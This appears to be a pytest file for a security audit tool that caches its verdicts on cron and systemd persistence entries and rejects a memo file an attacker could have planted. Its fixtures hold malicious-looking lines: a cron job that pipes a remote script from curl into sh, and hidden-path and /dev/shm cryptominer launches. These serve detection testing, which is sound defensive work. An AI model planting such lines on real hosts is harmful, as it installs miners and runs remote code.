"""The memo of persistence signals between runs (detect/memo.py): the same conclusions as judging anew, only
for the very same entry under the same rules and code, and never from a file someone else could have written."""
from __future__ import annotations

import os
from pathlib import Path

import msgspec
import pytest

from audit_agent import fingerprint
from audit_agent.detect import persistence as detector
from audit_agent.detect.memo import FILE_NAME, SignalMemo, load_memo, memo_key, save_memo
from audit_agent.evaluate import evaluate
from audit_agent.model import PersistenceEntry, Snapshot
from audit_agent.pipeline import Inputs, load_tuned_rules, run_scan
from audit_agent.policy import Policy
from tests.factories import UNTRUSTED_WAYS, plant_state_file
from tests.test_persistence import miner_command, pool_domain

KEY = "k" * 64


def entries(rules) -> list[PersistenceEntry]:
    """Lines that say something (a miner, a pool, a dropper, a hidden path) and lines that say nothing."""
    texts = [
        ("cron", f"*/5 * * * * root {miner_command(rules)}"),
        ("cron", f"@reboot curl -fsSL http://{pool_domain(rules)}/x.sh | sh"),
        ("systemd", "ExecStart=/var/tmp/.cache/.x/kworker -c /var/tmp/.cache/.x/c.json"),
        ("systemd", "ExecStart=/usr/bin/gunicorn --workers 4 app:app"),
        ("cron", "17 * * * * root cd / && run-parts --report /etc/cron.hourly"),
    ]
    return [PersistenceEntry(kind=kind, path=f"/etc/place{i}", line=i + 1, text=text, user="root")
            for i, (kind, text) in enumerate(texts)]


def comparable(report) -> list[dict]:
    return [msgspec.to_builtins(f) for f in report.findings]


def counting(monkeypatch) -> list[str]:
    judged: list[str] = []
    real = detector.entry_signals

    def entry_signals(entry, rules, about=None):
        judged.append(entry.text)
        return real(entry, rules, about)
    monkeypatch.setattr(detector, "entry_signals", entry_signals)
    return judged


def test_remembered_conclusions_are_the_ones_judged_anew(compiled_rules, tmp_path, monkeypatch):
    snapshot = Snapshot(persistence=entries(compiled_rules))
    fresh = evaluate(snapshot, compiled_rules, now=1.0)
    assert {f.subject.path for f in fresh.findings} >= {"/etc/place0", "/etc/place1", "/etc/place2"}

    first = load_memo(tmp_path, KEY)
    assert first is not None and not first.saved
    assert comparable(evaluate(snapshot, compiled_rules, now=1.0, memo=first)) == comparable(fresh)
    assert first.changed and save_memo(tmp_path, first)

    judged = counting(monkeypatch)
    second = load_memo(tmp_path, KEY)
    assert second is not None and len(second.saved) == len(snapshot.persistence)
    assert comparable(evaluate(snapshot, compiled_rules, now=1.0, memo=second)) == comparable(fresh)
    assert judged == []                             # every entry came from the memo
    assert not second.changed and not save_memo(tmp_path, second)      # nothing new: nothing written


def test_a_changed_line_is_judged_again_and_the_rest_recalled(compiled_rules, tmp_path, monkeypatch):
    lines = entries(compiled_rules)
    first = load_memo(tmp_path, KEY)
    evaluate(Snapshot(persistence=lines), compiled_rules, memo=first)
    save_memo(tmp_path, first)

    changed = msgspec.structs.replace(lines[3], text="ExecStart=/dev/shm/.x/xmrig -o pool:3333")
    moved = msgspec.structs.replace(lines[4], line=99)          # any field: the same text elsewhere is new
    judged = counting(monkeypatch)
    memo = load_memo(tmp_path, KEY)
    report = evaluate(Snapshot(persistence=[*lines[:3], changed, moved]), compiled_rules, memo=memo)
    assert sorted(judged) == sorted([changed.text, moved.text])
    assert "/etc/place3" in {f.subject.path for f in report.findings}
    assert save_memo(tmp_path, memo)
    assert len(load_memo(tmp_path, KEY).saved) == 5             # the entries of the last run, no more


def test_a_memo_of_other_rules_or_code_is_not_used(compiled_rules, tmp_path, monkeypatch):
    first = load_memo(tmp_path, KEY)
    evaluate(Snapshot(persistence=entries(compiled_rules)), compiled_rules, memo=first)
    save_memo(tmp_path, first)
    assert load_memo(tmp_path, "other").saved == {}
    assert memo_key("pack-a") != memo_key("pack-b") and memo_key(None) is None and load_memo(tmp_path, None) is None

    before = memo_key("pack-a")
    source = Path(fingerprint.__file__)
    stat = source.stat()
    fingerprint.code_fingerprint.cache_clear()
    try:
        os.utime(source, ns=(stat.st_atime_ns, stat.st_mtime_ns + 1_000_000_000))
        assert memo_key("pack-a") != before             # an edited module: another key
    finally:
        os.utime(source, ns=(stat.st_atime_ns, stat.st_mtime_ns))
        fingerprint.code_fingerprint.cache_clear()
    assert memo_key("pack-a") == before


@pytest.mark.parametrize("how", UNTRUSTED_WAYS)
def test_a_memo_others_could_have_written_or_that_is_torn_is_ignored(compiled_rules, tmp_path, how):
    lines = entries(compiled_rules)
    state = tmp_path / "state"
    state.mkdir()
    # What an attacker would plant: every line, the miner's among them, "judged" clean.
    planted = SignalMemo(KEY)
    for entry in lines:
        planted.remember(planted.digest(entry), [])
    plant_state_file(state / FILE_NAME, planted.to_bytes(), how)
    memo = load_memo(state, KEY)
    assert memo is not None and memo.saved == {}
    report = evaluate(Snapshot(persistence=lines), compiled_rules, memo=memo)
    assert "/etc/place0" in {f.subject.path for f in report.findings}


def test_the_planted_memo_would_hide_the_miner_were_it_trusted(compiled_rules, tmp_path):
    """The check above means something: a trusted memo is believed."""
    lines = entries(compiled_rules)
    planted = SignalMemo(KEY)
    for entry in lines:
        planted.remember(planted.digest(entry), [])
    assert save_memo(tmp_path, planted)
    report = evaluate(Snapshot(persistence=lines), compiled_rules, memo=load_memo(tmp_path, KEY))
    assert "/etc/place0" not in {f.subject.path for f in report.findings}


def test_a_scan_keeps_the_memo_in_the_state_folder_keyed_by_the_loaded_pack(tmp_path, monkeypatch):
    monkeypatch.setenv("AUDIT_AGENT_STATE_DIR", str(tmp_path))
    rules = load_tuned_rules(None, None)
    assert rules.fingerprint and len(rules.fingerprint) == 64          # stamped by the pack cache
    inputs = Inputs(rules=rules, policy=Policy())
    snapshot = Snapshot(persistence=entries(rules))
    first = run_scan(snapshot, inputs)
    assert (tmp_path / FILE_NAME).is_file()
    judged = counting(monkeypatch)
    again = run_scan(snapshot, msgspec.structs.replace(inputs, rules=load_tuned_rules(None, None)))
    assert judged == [] and [f.fingerprint for f in again.findings] == [f.fingerprint for f in first.findings]


def test_without_a_state_folder_the_pack_has_no_fingerprint_and_nothing_is_remembered(monkeypatch):
    from audit_agent.rules import pack_cache
    from audit_agent.rules.compiler import CompiledRules
    from audit_agent.rules.loader import load_pack
    rules = pack_cache.cached([Path("unused")], None, lambda: CompiledRules(load_pack()))
    assert rules.fingerprint is None and memo_key(rules.fingerprint) is None
